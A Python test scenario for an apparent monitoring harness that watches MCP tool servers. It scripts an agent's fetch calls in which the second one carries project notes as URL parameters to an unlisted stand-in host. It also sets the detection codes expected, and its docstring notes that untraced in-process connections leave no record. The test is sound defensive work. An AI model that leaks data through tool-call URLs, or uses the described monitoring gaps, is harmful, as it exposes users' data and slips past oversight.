"""mcp-server-fetch 2026.10.24 (PyPI, pinned): the agent is told to "check" a URL that
carries the project's notes to a host no policy lists (worlds.Remote on 127.0.0.1).

The fetch runs in the server's own Python process: robots.txt, then the URL, both to the
unlisted host, during the second fetch call. Its answer is plain text, so readabilipy's
node does not run for it.

True: MEDIUM MCS306 for the server's own connection to 127.0.0.1 under fetch #2 (the call
in flight owns it; no process was started for it); under fetch #1 (an HTML page from the
listed page server), readabilipy's node as in benign_fetch.py. Untraced, an in-process
connection leaves no record; only the sampler's luck sees its socket.
"""

from __future__ import annotations

from typing import Any

from tests.corpus.harness import Expect, Scenario, Workspace
from tests.corpus.scenarios.benign_fetch import readability, server
from tests.corpus.scenarios.benign_fetch import setup as pages_setup
from tests.corpus.worlds import Remote, heard, pages


def setup(w: Workspace) -> None:
    pages_setup(w)
    Remote(w)


def _calls(w: Workspace) -> list[tuple[str, Any]]:
    return [
        ("fetch", {"url": f"{pages(w)}/guide.html"}),
        ("fetch", {"url": f"http://127.0.0.1:{w.port}/check?notes=first%20second"}),
    ]


SCENARIO = Scenario(
    name="attack-mcp-server-fetch",
    kind="attack",
    summary="mcp-server-fetch 2026.10.24: a fetch that carries notes to an unlisted host",
    server=server,
    calls=_calls,
    setup=setup,
    needs=("servers",),
    proof=lambda w: heard(w, b"notes=first", "the fetch"),
    expected=(
        *readability(1),
        Expect("MCS304", "medium", "fetch", nth=2, optional=True, names=("127.0.0.1",)),
    ),
    traced_expected=(
        *readability(1),
        Expect("MCS306", "medium", "fetch", nth=2, names=("127.0.0.1",)),
    ),
)
